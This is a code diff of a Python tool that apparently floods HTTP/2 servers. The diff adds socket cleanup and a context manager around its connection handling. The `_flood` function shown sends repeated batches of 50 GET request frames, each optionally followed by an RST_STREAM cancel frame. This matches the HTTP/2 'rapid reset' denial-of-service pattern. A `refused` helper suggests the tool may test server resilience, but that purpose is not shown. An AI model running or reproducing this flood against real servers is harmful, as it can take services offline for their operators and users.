@@ -35,7 +35,11 @@ def connect(server: Server, domain: str, *protocols: str, tls: bool = True) -> s
     context = trust(server)
     if protocols:
         context.set_alpn_protocols(list(protocols))
-    return context.wrap_socket(plain, server_hostname=domain)
+    try:
+        return context.wrap_socket(plain, server_hostname=domain)
+    except BaseException:
+        plain.close()
+        raise
 
 
 def trust(server: Server) -> ssl.SSLContext:
@@ -279,17 +283,17 @@ def _flood(
 ) -> None:
     http2, stream = Http2.to(server, domain), 1
     told.connections += 1
-    while time.monotonic() < stop and not http2.gone:
-        frames = b""
-        for _ in range(50):
-            frames += request(stream, pseudo("GET", path, domain))
-            frames += frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) if reset else b""
-            stream += 2
-        http2.connection.settimeout(5)
-        http2.connection.sendall(frames)
-        told.sent += 50
-        http2.read(0.0005)
-    http2.close()
+    with http2.connection:
+        while time.monotonic() < stop and not http2.gone:
+            frames = b""
+            for _ in range(50):
+                frames += request(stream, pseudo("GET", path, domain))
+                frames += frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) if reset else b""
+                stream += 2
+            http2.connection.settimeout(5)
+            http2.connection.sendall(frames)
+            told.sent += 50
+            http2.read(0.0005)
 
 
 def refused(server: Server, domain: str) -> str:
